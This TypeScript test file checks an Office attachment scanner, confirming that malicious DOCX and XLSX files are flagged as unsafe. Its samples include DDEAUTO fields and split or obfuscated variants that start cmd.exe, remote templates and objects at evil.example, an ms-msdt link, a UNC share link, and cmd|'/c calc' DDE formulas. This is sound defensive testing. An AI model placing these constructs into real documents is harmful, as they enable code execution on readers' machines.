import { expect, test } from 'vitest';
import { openAttachment } from './open-attachment.ts';
import { aDocx, anXlsx, withParts } from './test-documents.ts';

const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const judged = async (name: string, bytes: Buffer) => {
  const found = await openAttachment(name, bytes);
  return 'fault' in found ? found.fault : found.content;
};
const part = (name: string, text: string) => ({ name, bytes: Buffer.from(text) });
const relation = (type: string, target: string, mode = ' TargetMode="External"') =>
  part(
    'word/_rels/settings.xml.rels',
    `<Relationships><Relationship Id="r1" Type="${office}/${type}" Target="${target}"${mode}/></Relationships>`,
  );
const fields = (xml: string) => part('word/header1.xml', `<w:hdr>${xml}</w:hdr>`);
const instruction = (text: string) => `<w:instrText xml:space="preserve">${text}</w:instrText>`;
const begin = '<w:fldChar w:fldCharType="begin"/>';

test.each([
  ['a template from elsewhere', relation('attachedTemplate', 'https://evil.example/t.dotm')],
  ['one whose word is written in numbers', relation('image', 'https://evil.example', ' TargetMode="&#69;xternal"')],
  ['an object from elsewhere', relation('oleObject', 'https://evil.example/o')],
  ['an object within', relation('oleObject', 'media/picture.xml', '')],
  ['a picture from elsewhere', relation('image', 'https://evil.example/seen.png')],
  ['a frame from elsewhere', relation('frame', 'https://evil.example')],
  ['a link to a program’s own scheme', relation('hyperlink', 'ms-msdt:/id PCWDiagnostic')],
  ['a link to a share', relation('hyperlink', '\\\\evil\\share')],
  ['a field that starts a program', fields(`${begin}${instruction(' DDEAUTO c:\\\\cmd.exe "/k calc"')}`)],
  ['one in pieces', fields(`${begin}${instruction('D')}<w:r/>${instruction('DE')}${instruction(' c:\\x')}`)],
  ['one in an attribute', fields(`<w:fldSimple w:instr=' dde excel "x"'/>`)],
  ['one in brackets', fields(`${begin}${instruction('<![CDATA[DDEAUTO c:\\x]]>')}`)],
  ['one with a comment in it', fields(`${begin}${instruction('DD<!-- -->EAUTO c:\\x')}`)],
  ['one in a part that breaks off', part('word/header1.vml', `<w:hdr>${begin}${instruction('DDE c:\\x')}<w:p>`)],
  ['other letters', part('word/header1.xml', '<?xml version="1.0" encoding="UTF-7"?><w:hdr/>')],
  ['an entity of its own', part('word/header1.xml', '<!DOCTYPE x [<!ENTITY a "b">]><w:hdr/>')],
  ['letters of two bytes', { name: 'word/header1.xml', bytes: Buffer.from('<w:hdr/>', 'utf16le') }],
  ['something else embedded', part('word/embeddings/Microsoft_Word_97.doc', 'x')],
  ['a document within a document within it', { name: 'word/embeddings/a.docx', bytes: nested() }],
])('a DOCX with %s is refused', async (_name, added) => {
  expect(await judged('x.docx', aDocx([added]))).toBe('UNSAFE');
});

test.each([
  ['a workbook that calls a program', part('xl/externalLinks/externalLink1.xml', '<x><ddeLink ddeService="cmd"/></x>')],
  ['a formula that calls one', part('xl/worksheets/sheet9.xml', `<s><f>cmd|'/c calc'!A0</f></s>`)],
  ['one in brackets', part('xl/worksheets/sheet9.xml', `<s><f><![CDATA[cmd|'/c calc'!A0]]></f></s>`)],
  [
    'a link to another workbook',
    part(
      'xl/_rels/workbook9.xml.rels',
      `<Relationships><Relationship Type="${office}/externalLink" Target="a.xml"/></Relationships>`,
    ),
  ],
])('an XLSX with %s is refused', async (_name, added) => {
  expect(await judged('x.xlsx', withParts(anXlsx(), [added]))).toBe('UNSAFE');
});

test.each([
  ['a link', relation('hyperlink', 'https://example.com/a?b=1&amp;c=2')],
  ['a link to a mailbox', relation('hyperlink', 'mailto:jan@example.com')],
  ['a link to a place in it', relation('hyperlink', '#chapter')],
  ['a part of its own', relation('image', 'media/image1.png', '')],
  ['a field with a number', fields(`${begin}${instruction(' PAGE ')}${begin}${instruction('HYPERLINK "added"')}`)],
  [
    'an old drawing that closes not all its tags',
    part('word/drawings/vmlDrawing1.vml', '<xml><v:shape><br></v:shape></xml>'),
  ],
  ['a part without anything in it', part('_xmlsignatures/origin.sigs', '')],
  ['names of its own letters', part('customXml/item1.xml', '<číslo řada="1"/>')],
  ['a chart with its figures', { name: 'word/embeddings/Microsoft_Excel_Sheet1.xlsx', bytes: anXlsx() }],
])('a DOCX with %s is fine', async (_name, added) => {
  expect(await judged('x.docx', aDocx([added]))).toBe('docx');
});

test.each([
  ['a part that breaks off', part('word/header1.xml', '<w:hdr><w:p>')],
  ['one that is no text', { name: 'word/header1.xml', bytes: Buffer.from([0x3c, 0x61, 0xff, 0xfe, 0x2f, 0x3e]) }],
])('a DOCX with %s is damaged', async (_name, added) => {
  expect(await judged('x.docx', aDocx([added]))).toBe('DAMAGED');
});

test('a workbook with texts that look like a call is fine', async () => {
  const sheet = part('xl/worksheets/sheet9.xml', `<s><f>A1&amp;"a|'b'!c"&amp;B1</f><v>cmd|'/c'!A0</v></s>`);

  expect(await judged('x.xlsx', withParts(anXlsx(), [sheet]))).toBe('xlsx');
});

function nested(): Buffer {
  return aDocx([{ name: 'word/embeddings/b.docx', bytes: aDocx() }]);
}
